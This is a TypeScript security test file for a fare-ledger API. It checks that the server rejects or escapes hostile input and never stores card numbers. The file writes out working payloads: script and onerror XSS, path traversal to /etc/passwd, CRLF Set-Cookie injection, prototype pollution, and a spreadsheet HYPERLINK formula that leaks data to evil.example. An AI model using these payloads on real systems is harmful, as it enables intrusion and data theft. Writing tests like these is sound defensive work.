        expect([name, field, (body['errors'] as { pointer: string }[]).map((error) => error.pointer)]).toEqual([name, field, [`/${field}`]]);
      }
      const target = encodeURIComponent(hostile[name]);
      await expectProblem(await admin('GET', `/v1/admin/devices/${target}`), 404, 'not-found');
      await expectProblem(await admin('POST', `/v1/admin/devices/${target}/revoke`), 404, 'not-found');
      await expectProblem(await admin('POST', `/v1/admin/devices/${target}/keys`), 404, 'not-found');
      await expectProblem(await admin('DELETE', `/v1/admin/devices/${bus.deviceId}/keys/${target}`), 404, 'not-found');
      await expectProblem(await admin('GET', `/v1/admin/devices?operatorId=${target}`), 400, 'invalid-request');
      await expectProblem(await admin('GET', `/v1/admin/devices?after=${target}`), 400, 'invalid-request');
    }
    for (const name of ['nul', 'control', 'crlf', 'rtl', 'zeroWidth', 'overlong'] as const) {
      await expectProblem(await admin('POST', '/v1/admin/devices', registration({ label: hostile[name] })), 400, 'invalid-request');
    }
    for (const body of [`{"__proto__":{"status":"active"},${JSON.stringify(registration({})).slice(1)}`, `{"constructor":{"prototype":{}},${JSON.stringify(registration({})).slice(1)}`]) {
      await expectProblem(await admin('POST', '/v1/admin/devices', body), 400, 'invalid-request');
    }
    await expectProblem(await admin('GET', '/v1/admin/devices?__proto__=x'), 400, 'invalid-request');
    expect(await listing()).toEqual(before);
    expect(registryChanges()).toBe(changesBefore);

    const label = `${hostile.html} ${hostile.sql} ${hostile.traversal} ${hostile.homoglyph} ${hostile.emoji}`;
    const created = registration({ label });
    expect((await admin('POST', '/v1/admin/devices', created)).status).toBe(201);
    registryChangesMade += 1;
    const stored = (await (await admin('GET', `/v1/admin/devices/${String(created['deviceId'])}`)).json()) as { label: string };
    expect(stored.label).toBe(label);
  });

  it('refuses each in token requests, and stores a free-text token label verbatim', async () => {
    const count = async () => ((await (await admin('GET', '/v1/admin/tokens?limit=1000')).json()) as { tokens: unknown[] }).tokens.length;
    const before = await count();
    for (const name of hostileNames) {
      await expectProblem(await admin('POST', '/v1/admin/tokens', { role: hostile[name], account: 'wa_demo_0001' }), 400, 'invalid-request');
      if (!validAccounts.includes(name)) {
        await expectProblem(await admin('POST', '/v1/admin/tokens', { role: 'wallet', account: hostile[name] }), 400, 'invalid-request');
        await expectProblem(await admin('GET', `/v1/admin/tokens?account=${encodeURIComponent(hostile[name])}`), 400, 'invalid-request');
      }
      await expectProblem(await admin('GET', `/v1/admin/tokens/${encodeURIComponent(hostile[name])}`), 404, 'not-found');
      await expectProblem(await admin('POST', `/v1/admin/tokens/${encodeURIComponent(hostile[name])}/revoke`), 404, 'not-found');
    }
    await expectProblem(await admin('POST', '/v1/admin/tokens', '{"role":"wallet","account":"wa_demo_0001","__proto__":{"role":"auditor"}}'), 400, 'invalid-request');
    await expectProblem(await admin('POST', '/v1/admin/tokens', { role: 'auditor', label: 'x'.repeat(201) }), 400, 'invalid-request');
    expect(await count()).toBe(before);

    const label = `${hostile.html}${hostile.crlf}${hostile.rtl}${hostile.nul}`;
    const response = await admin('POST', '/v1/admin/tokens', { role: 'auditor', label });
    expect(response.status).toBe(201);
    const { record } = (await response.json()) as { record: { tokenId: string } };
    expect(((await (await admin('GET', `/v1/admin/tokens/${record.tokenId}`)).json()) as { label: string }).label).toBe(label);
  });

  it('refuses each in the query strings and path parameters of the wallet, audit and transparency doors', async () => {
    const [wallet] = credentials.wallets as [{ account: string; token: string }];
    const auditor = credentials.auditor.token;
    for (const name of hostileNames) {
      const value = encodeURIComponent(hostile[name]);
      const cases: [string, string | undefined, number][] = [
        [`/v1/invoices/${value}`, wallet.token, 404],
        [`/v1/invoices/26000000000000000000?since=${value}`, wallet.token, 400],
        [`/v1/taps/${value}/invoice`, wallet.token, 404],
        [`/v1/taps/sec-1/invoice?waitMs=${value}`, wallet.token, 400],
        [`/v1/accounts/${wallet.account}/invoices?limit=${value}`, wallet.token, 400],
        [`/v1/accounts/${wallet.account}/trips?cursor=${value}`, wallet.token, 400],
        [`/v1/accounts/${wallet.account}/trips?${value}=1`, wallet.token, 400],
        [`/v1/audit/totals?from=${value}&to=2026-01-01`, auditor, 400],
        [`/v1/audit/totals?from=2026-01-01&to=2026-01-02&operatorId=${value}`, auditor, 400],
        [`/v1/audit/invoices/${value}`, auditor, 404],
        [`/v1/audit/jobs/${value}`, auditor, 404],
        [`/v1/audit/chains/${value}/export`, auditor, 404],
        [`/v1/audit/chains/0/export?format=${value}`, auditor, 400],
        [`/v1/chains/${value}/checkpoint`, undefined, 404],
        [`/v1/chains/0/checkpoints/${value}`, undefined, 404],
        [`/v1/chains/0/proofs/inclusion?index=${value}&size=1`, undefined, 400],
        [`/v1/chains/0/proofs/consistency?from=${value}&to=1`, undefined, 400],
        [`/v1/chains/0/tile/${value}`, undefined, 404],
        [`/problems/${value}`, undefined, 404],
      ];
      if (!validAccounts.includes(name)) cases.push([`/v1/accounts/${value}/trips`, auditor, 404]);
      for (const [target, token, status] of cases) {
        const response = await get(target, token);
        const text = await response.text();
        expect([name, target, response.status, response.headers.get('content-type')], text).toEqual([name, target, status, problemJson]);
        expect(JSON.parse(text)['type']).toBe(status === 404 ? '/problems/not-found' : '/problems/invalid-request');
      }
    }
  });

  it('answers a hostile but valid account with its own empty listing, not with anyone else\'s', async () => {
    const response = await get(`/v1/accounts/${encodeURIComponent(hostile.sqlNoSpace + 'x')}/invoices`, credentials.auditor.token);
    expect([response.status, await response.json()]).toEqual([200, { items: [], next: null }]);
  });

  it('refuses raw path traversal, CRLF, NUL and a 20 KB URL in the request head without serving a file or a header', async () => {
    const targets = ['/v1/chains/0/tile/../../../../etc/passwd', '/verify/../../package.json', '/v1/chains/0/tile/%2e%2e/%2e%2e/%2e%2e/etc/passwd', '/docs/..%2f..%2f..%2fetc%2fpasswd'];
    for (const target of targets) {
      const answer = await rawExchange([`GET ${target} HTTP/1.1\r\nHost: fareledger\r\nConnection: close\r\n\r\n`]);
      expect([target, answer.status, answer.headers['content-type']]).toEqual([target, 404, problemJson]);
      expect(answer.received).not.toMatch(/root:|"name": "fareledger"/);
    }
    const walletToken = credentials.wallets[0]!.token;
    const crlf = await rawExchange([`GET /v1/invoices/1%0d%0aSet-Cookie:%20pwned=1 HTTP/1.1\r\nHost: fareledger\r\nAuthorization: Bearer ${walletToken}\r\nConnection: close\r\n\r\n`]);
    expectRawProblem(crlf, 404, 'not-found');
    expect(crlf.headers['set-cookie']).toBeUndefined();
    // A request line split by CRLF: what follows is read as a request header, never written into the response.
    const split = await rawExchange(['GET /v1/chains\r\nSet-Cookie: pwned=1 HTTP/1.1\r\nHost: fareledger\r\nConnection: close\r\n\r\n']);
    expect([split.status, split.headers['set-cookie'], split.received.includes('pwned')]).toEqual([200, undefined, false]);
    const bareCr = await rawExchange(['GET /v1/ch\rains HTTP/1.1\r\nHost: fareledger\r\n\r\n']);
    expectRawProblem(bareCr, 400, 'malformed-request');
    const overlong = await rawExchange([`GET /v1/chains/0/proofs/inclusion?index=${'9'.repeat(20_000)}&size=1 HTTP/1.1\r\nHost: fareledger\r\n\r\n`]);
    expectRawProblem(overlong, 431, 'headers-too-large');
    const headerNul = await rawExchange(['GET /v1/chains HTTP/1.1\r\nHost: fareledger\r\nX-Evil: a\u0000b\r\n\r\n']);
    expectRawProblem(headerNul, 400, 'malformed-request');
  });

  it('exports an account that a spreadsheet would run as a formula as text, in the auditor\'s CSV', async () => {
    const account = '=HYPERLINK("http://evil.example/?leak="&A1)';
    const { token } = await issueWalletToken(account);
    const trip = await sealedTrip(account, token);
    const { chain } = (await (await get(`/v1/invoices/${trip.number}`, token)).json()) as { chain: number };
    const csv = await (await get(`/v1/audit/chains/${chain}/export?format=csv`, credentials.auditor.token)).text();
    expect(csv).toContain(',"\'=HYPERLINK(""http://evil.example/?leak=""&A1)",');
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
  }, 60_000);

  describe('free text reaches HTML pages escaped', () => {
    let trip: WalletTrip;
    beforeAll(async () => {
      const { token } = await issueWalletToken(hostile.html);
      trip = await sealedTrip(hostile.html, token);
    }, 60_000);

    async function invoicePage(number: string): Promise<string> {
      const response = await get(`/v1/invoices/${number}`, trip.token, { accept: 'text/html' });
      expect([response.status, response.headers.get('content-type')]).toEqual([200, 'text/html; charset=UTF-8']);
      return response.text();
    }

    it('prints a hostile account escaped on the invoice page', async () => {
      const page = await invoicePage(trip.number);
      expect(page).not.toContain(hostile.html);
      expect(page).toContain('<td>&lt;script&gt;alert(1)&lt;/script&gt;</td>');
    });

    it('refuses hostile refund fields and control characters in a reason with 400, and prints a hostile reason escaped on the credit invoice', async () => {
      const adjustment = (adjustmentId: string, reason: string) => ({ adjustmentId, tripId: trip.tripId, kind: 'refund', amountFen: 1, reason, authorizedBy: 'sec-admin' });
      for (const name of ['nul', 'control', 'crlf', 'rtl', 'zeroWidth', 'overlong'] as const) {
        const body = await expectProblem(await admin('POST', '/v1/admin/adjustments?waitMs=0', adjustment(`sec-adj-${name}`, hostile[name])), 400, 'invalid-request');
        expect([name, (body['errors'] as { pointer: string }[]).map((error) => error.pointer)]).toEqual([name, ['/reason']]);
        await expectProblem(await admin('GET', `/v1/admin/adjustments/sec-adj-${name}`), 404, 'not-found');
      }
      for (const name of hostileNames) {
        for (const field of ['adjustmentId', 'tripId', 'kind', 'authorizedBy']) {
          const body = await expectProblem(await admin('POST', '/v1/admin/adjustments?waitMs=0', { ...adjustment('sec-adj-field', 'hostile field'), [field]: hostile[name] }), 400, 'invalid-request');
          expect([name, field, (body['errors'] as { pointer: string }[]).map((error) => error.pointer)]).toEqual([name, field, [`/${field}`]]);
        }
        await expectProblem(await admin('GET', `/v1/admin/adjustments/${encodeURIComponent(hostile[name])}`), 404, 'not-found');
      }
      await expectProblem(await admin('POST', '/v1/admin/adjustments?waitMs=0', `{"__proto__":{"amountFen":1000000},${JSON.stringify(adjustment('sec-adj-proto', 'x')).slice(1)}`), 400, 'invalid-request');
      const reason = `${hostile.htmlAttribute} ${hostile.html}`;
      const response = await admin('POST', '/v1/admin/adjustments?waitMs=20000', adjustment('sec-adj-html', reason));
      expect(response.status).toBe(201);
      const { invoice } = (await response.json()) as { invoice: { number: string } };
      const page = await invoicePage(invoice.number);
      expect(page).not.toContain(hostile.html);
      expect(page).not.toContain(hostile.htmlAttribute);
      expect(page).toContain('(refund: &quot;&gt;&lt;img/src=x/onerror=alert(1)&gt; &lt;script&gt;alert(1)&lt;/script&gt;)');
    });
  });
});

// Test card numbers the networks publish (Visa, Mastercard, Amex, UnionPay, Discover, JCB,
// Diners), each Luhn-valid, and a 19-digit UnionPay debit number.
const cardNumbers = ['4111111111111111', '5555555555554444', '378282246310005', '6200000000000005', '6011111111111117', '3530111333300000', '30569309025904', '6212345678901234569'];

describe('a bank card number used as the account', () => {
  const spellings = (pan: string) => [pan, pan.replace(/(\d{4})(?=\d)/g, '$1-'), pan.replace(/(\d{4})(?=\d)/g, '$1 '), pan.replace(/(\d{4})(?=\d)/g, '$1.')];

  it('refuses every card number, plain, with dashes, spaces or dots, with 400 and never echoes it', async () => {
    for (const pan of cardNumbers) {
      for (const account of spellings(pan)) {
        const tap = busTap(bus, { account });
        const body = await refusedTaps([tap], () => postSigned(bus, JSON.stringify(tap)), 400, 'invalid-request');
        expect([account, body['errors']]).toEqual([account, [{ pointer: '/account', detail: 'looks like a payment card number; send the wallet account token, never card data' }]]);
        expect(JSON.stringify(body)).not.toContain(pan.slice(0, 8));
      }
    }
  });

  it('refuses a whole batch with one card number in it', async () => {
    const taps = [busTap(bus), busTap(bus, { account: cardNumbers[0] }), busTap(bus)];
    const body = await refusedTaps(taps, () => postSigned(bus, JSON.stringify({ taps })), 400, 'invalid-request');
    expect((body['errors'] as { pointer: string }[]).map((error) => error.pointer)).toEqual(['/taps/1/account']);
  });

  it('refuses a wallet token for a card number', async () => {
    for (const account of spellings(cardNumbers[0]!).filter((spelling) => !spelling.includes(' '))) {
      const body = await expectProblem(await admin('POST', '/v1/admin/tokens', { role: 'wallet', account }), 400, 'invalid-request');
      expect(JSON.stringify(body)).not.toContain(cardNumbers[0]!.slice(0, 8));
    }
  });

  it('accepts a 16-digit account that fails the Luhn check (the control: the check is not "any long number")', async () => {
    const tap = busTap(bus, { account: '4111111111111112' });
    await expectAccepted(await postSigned(bus, JSON.stringify(tap)), [tap]);
  });
});

describe('nothing refused was stored', () => {
  it('seals exactly the accepted taps: none refused in the ledger or the tap log, no card number in any file', { timeout: 60_000 }, async () => {
    expect(accepted.size).toBeGreaterThan(500);
    expect(refused.size).toBeGreaterThan(2000);
    expect([...refused].filter((key) => accepted.has(key))).toEqual([]);
    const files = cityFiles(dataDir);
    await waitUntilSealed(files.ledger, accepted);
    await city!.stop();
    city = undefined;

    const ledger = tapKeysInLedger(files.ledger);
    expect(ledger.filter((key) => refused.has(key))).toEqual([]);
    expect(ledger.sort()).toEqual([...accepted].sort());
    const tapLog = await tapKeysInTapLog(files.tapLog);
    expect(tapLog.filter((key) => refused.has(key))).toEqual([]);
    expect(tapLog.sort()).toEqual([...accepted].sort());

    expect(registryChanges()).toBe(registryChangesAtStart + registryChangesMade);
    for (const name of readdirSync(dataDir)) {
      const bytes = readFileSync(path.join(dataDir, name)).toString('latin1');
      for (const pan of cardNumbers) expect([name, bytes.includes(pan)]).toEqual([name, false]);
    }
  });
});

function tapKeysInLedger(ledgerPath: string): string[] {
  const reader = LedgerReader.open({ path: ledgerPath });
  try {
    return reader.chains().flatMap(({ chain, treeSize }) => {
      const keys: string[] = [];
      for (let from = 0; from < treeSize; from += 10_000) {
        for (const { bytes } of reader.entries(chain, from, Math.min(treeSize, from + 10_000))) {
          const entry = decodeEntry(bytes);
          if (entry.type === 'tap') keys.push(`${entry.tap.deviceId}/${entry.tap.tapId}`);
        }
      }
      return keys;
    });
  } finally {
    reader.close();
  }
}

async function tapKeysInTapLog(tapLogPath: string): Promise<string[]> {
  expect(existsSync(tapLogPath)).toBe(true);
  const log = LocalTapLog.open(tapLogPath, 4);
  try {
    return log.endOffsets().flatMap((end, partition) => log.read(partition, 0, end).flatMap((record) => {
      const entry = decodeEntry(record.value);
      return entry.type === 'tap' ? [`${entry.tap.deviceId}/${entry.tap.tapId}`] : [];
    }));
  } finally {
    await log.close();
  }
}

async function waitUntilSealed(ledgerPath: string, keys: ReadonlySet<string>): Promise<void> {
  for (const deadline = Date.now() + 30_000; Date.now() < deadline;) {
    const sealed = new Set(tapKeysInLedger(ledgerPath));
    if ([...keys].every((key) => sealed.has(key))) return;
    await new Promise((resolve) => setTimeout(resolve, 250));
  }
}
